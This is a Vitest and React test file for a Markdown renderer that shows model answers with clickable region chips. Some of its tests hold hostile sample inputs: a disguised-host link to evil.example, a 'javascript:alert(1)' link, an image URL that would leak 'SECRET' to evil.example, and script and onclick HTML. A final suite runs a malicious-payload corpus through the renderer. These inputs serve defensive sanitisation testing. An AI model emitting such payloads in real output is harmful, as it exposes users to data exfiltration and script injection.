// @vitest-environment jsdom
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { render, screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test, vi } from 'vitest'
import type { ShownRegion } from '@/core/grounding/shown-region.ts'
import { createBlockSplitter } from '@/core/markdown/block-splitter.ts'
import { createArriving, createMarker } from '@/core/markdown/mention-marker.ts'
import { makeRegion } from '@/testing/make-region.ts'
import { CopyContext } from '@/ui/copy-context.ts'
import { MarkdownBlock } from './markdown-block.tsx'
import { MentionContext } from './mention-context.ts'

const CUP = makeRegion({
  label: 'cup',
  coords: [1, 2, 3, 4],
  rect: [0.001, 0.002, 0.003, 0.004],
  source: [0, 10],
})
const SHOWN: ShownRegion = { key: 'answer:0', region: CUP, number: 1, hue: 1, confirmed: false }
const SOURCE = {
  mentions: [{ start: 0, end: 10, regions: [0], possible: false }],
  readMention: () => '',
  regionAt: () => SHOWN,
}

function show(text: string, isClosed = true) {
  return render(
    <MentionContext value={SOURCE}>
      <MarkdownBlock block={{ id: 0, text, isClosed }} />
    </MentionContext>,
  )
}

const CHIP = 'Region 1, cup: 1 2 3 4'
const marker = createMarker(0)

describe('a Markdown block', () => {
  test('copies code with the coordinates that stand in it as chips', async () => {
    const copy = vi.fn(async () => true)
    const source = { ...SOURCE, readMention: () => '<|begin_of_box|>[[1,2,3,4]]<|end_of_box|>' }
    render(
      <CopyContext value={copy}>
        <MentionContext value={source}>
          <MarkdownBlock
            block={{ id: 0, text: `\`\`\`json\n{"box": ${marker}}\n\`\`\``, isClosed: true }}
          />
        </MentionContext>
      </CopyContext>,
    )
    await userEvent.click(screen.getByRole('button', { name: 'Copy code' }))
    expect(copy).toHaveBeenCalledWith(expect.stringContaining('{"box": [[1,2,3,4]]}'))
  })

  test.each([
    ['a paragraph', `at ${marker}, there`, 'P'],
    ['emphasis', `a **cup${marker}** b`, 'STRONG'],
    ['a list', `- a\n- b ${marker}`, 'LI'],
    ['a heading', `## A ${marker}`, 'H4'],
    ['a table', `| a |\n|---|\n| ${marker} |`, 'TD'],
    ['code', `\`x ${marker}\``, 'CODE'],
    ['a fence', `\`\`\`\n{"box": ${marker}}\n\`\`\``, 'CODE'],
    ['HTML', `<b>${marker}</b>`, 'P'],
  ])('a mention is a chip in %s', (_title, text, parent) => {
    show(text)
    expect(screen.getByRole('button', { name: CHIP }).closest(parent.toLowerCase())).not.toBeNull()
  })

  test('a chip keeps its full stop', () => {
    show(`at ${marker}. Then`)
    const chip = screen.getByRole('button', { name: CHIP })
    expect(chip.parentElement?.textContent).toBe('11 2 3 4.')
    expect(chip.parentElement?.className).toContain('whitespace-nowrap')
  })

  test('a chip never stands in a link, and no marker in an address', () => {
    show(`[the cup ${marker}](https://a.example/${marker}x)`)
    const link = screen.getByRole('link', { name: 'the cup' })
    expect(link.getAttribute('href')).toBe('https://a.example/x')
    expect(within(link).queryByRole('button')).toBeNull()
    expect(screen.getByRole('button', { name: CHIP })).toBeDefined()
  })

  test('text that still arrives stays as it stands', () => {
    const { container } = show(`**at ${createArriving('[[12, **3')}`, false)
    expect(container.querySelector('strong')?.textContent).toBe('at [[12, **3')
  })

  test('a link opens a page that knows nothing of this one, and names its true host', () => {
    const { container } = show(
      '[https://open.bigmodel.cn](https://open.bigmodel.cn@evil.example/a)',
    )
    const link = screen.getByRole('link')
    expect(link.getAttribute('href')).toBe('https://evil.example/a')
    expect(link.getAttribute('target')).toBe('_blank')
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(link.getAttribute('title')).toBe('Opens evil.example')
    expect(container.textContent).toContain('(evil.example)')
  })

  test('a link that leads nowhere safe is its text', () => {
    const { container } = show('[click](javascript:alert(1)) [in](/settings) [x](#connect=a)')
    expect(screen.queryByRole('link')).toBeNull()
    expect(container.textContent).toBe('click in x')
  })

  test('a picture is never loaded but named', () => {
    const { container } = show('![a cup](https://evil.example/p.png?d=SECRET)')
    expect(container.querySelector('img')).toBeNull()
    expect(container.textContent).toBe('a cup (not loaded from evil.example)')
  })

  test('HTML is shown as its source', () => {
    const { container } = show('a <b onclick="x()">bold</b>\n\n<script>\nalert(1)\n</script>')
    expect(container.textContent).toContain('a <b onclick="x()">bold</b>')
    expect(container.textContent).toContain('<script>\nalert(1)\n</script>')
    expect(container.querySelector('script, b')).toBeNull()
  })

  test('a task list shows its state and cannot be changed', () => {
    show('- [x] seen\n- [ ] open')
    expect(screen.getByRole('checkbox', { name: 'Done' }).hasAttribute('disabled')).toBe(true)
    expect(screen.getByRole('checkbox', { name: 'Not done' })).toHaveProperty('checked', false)
  })

  test('definitions and footnotes are shown where they were written', () => {
    const { container } = show('[1]: https://a.example/x\n\n[^n]: a **note**')
    expect(container.textContent?.replace(/\s+/g, ' ')).toBe(
      '[1]: https://a.example/x [^n]: a note',
    )
    expect(screen.getByRole('link')).toBeDefined()
  })

  test('a character reference cannot make a chip', () => {
    show('&#xE000;&#xE030;&#xE001;')
    expect(screen.queryByRole('button')).toBeNull()
  })

  test('code names its language, can be copied, and is highlighted once it is closed', async () => {
    const { container } = show(`\`\`\`json\n{"box": ${marker}, "n": 12}\n\`\`\``)
    expect(container.querySelector('figcaption')?.textContent).toContain('json')
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeDefined()
    await waitFor(() => expect(container.querySelector('.hljs-number')?.textContent).toBe('12'))
    expect(screen.getByRole('button', { name: CHIP })).toBeDefined()
  })

  test('no class name of the model reaches the page', () => {
    const { container } = show('```js&#x20;hidden&#x20;fixed\nx\n```')
    expect(container.innerHTML).not.toContain('fixed')
  })

  test('a price is no formula', () => {
    const { container } = show('from $5 to $10, `$x$`')
    expect(container.textContent).toBe('from $5 to $10, $x$')
  })

  test('a block that is too deep is shown as plain text', () => {
    const text = `${'>'.repeat(5000)} x`
    expect(show(text).container.textContent).toBe(text)
  })
})

describe('reading an answer in blocks', () => {
  const lines = [
    'some text',
    '',
    '',
    '- item',
    '  more of it',
    '   - nested',
    '1. one',
    '* * *',
    '---',
    '```',
    '```js',
    '   ```',
    '~~~',
    '> quote',
    '> ```',
    '# heading',
    '<div>',
    '</div>',
    '<!-- a',
    '-->',
    '| a | b |',
    '|---|---|',
    '**bold**',
    '12 apples',
    '=== ',
    '',
  ]
  // After indented code micromark takes no list that begins with another number than 1, unlike CommonMark.
  const alphabets = [
    [...lines, '    code', '\tcode'],
    [...lines, '10. ten', '2. two'],
  ]

  test('looks the same as reading it whole', { timeout: 30_000 }, () => {
    const document = fc
      .constantFrom(...alphabets)
      .chain((alphabet) => fc.array(fc.constantFrom(...alphabet), { maxLength: 14 }))
    fc.assert(
      fc.property(document, (parts) => {
        const text = parts.join('\n')
        const splitter = createBlockSplitter()
        const blocks = [...splitter.push(text), ...splitter.end()]
        expect(blocks.map(toMarkup).join('')).toBe(toMarkup(text))
      }),
      { seed: 11, numRuns: 300 },
    )
  })

  function toMarkup(text: string): string {
    return renderToStaticMarkup(<MarkdownBlock block={{ id: 0, text, isClosed: true }} />)
      .replace(/^<div class="answer-block" data-open="false">|<\/div>$/g, '')
      .replace(/ (?:aria-\w+|id)="[^"]*"/g, '')
      .replace(/\n(?=<|$)|(?<=>)\n/g, '')
  }
})

const corpus = join(process.cwd(), '../shared/corpora/malicious.json')
if (!existsSync(corpus)) process.stdout.write(`skipped: no corpus at ${corpus}\n`)

describe.skipIf(!existsSync(corpus))('hostile payloads', () => {
  const text = existsSync(corpus) ? readFileSync(corpus, 'utf8') : '[]'
  const payloads: readonly { id: string; payload: string }[] = JSON.parse(text)

  test.each(payloads)('$id leaves nothing active in the page', ({ payload }) => {
    const splitter = createBlockSplitter()
    const blocks = [...splitter.push(payload), ...splitter.end()]
    const { container } = render(
      blocks.map((block, id) => (
        // biome-ignore lint/suspicious/noArrayIndexKey: blocks never move
        <MarkdownBlock key={id} block={{ id, text: block, isClosed: true }} />
      )),
    )
    const active =
      'script, iframe, form, base, meta, object, embed, style, link, img, svg:not([aria-hidden]), video'
    expect([...container.querySelectorAll(active)].map((element) => element.outerHTML)).toEqual([])
    for (const element of container.querySelectorAll('*')) {
      expect(element.getAttributeNames().filter((name) => name.startsWith('on'))).toEqual([])
    }
    for (const link of container.querySelectorAll('[href]')) {
      expect(link.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:)/)
    }
  })
})
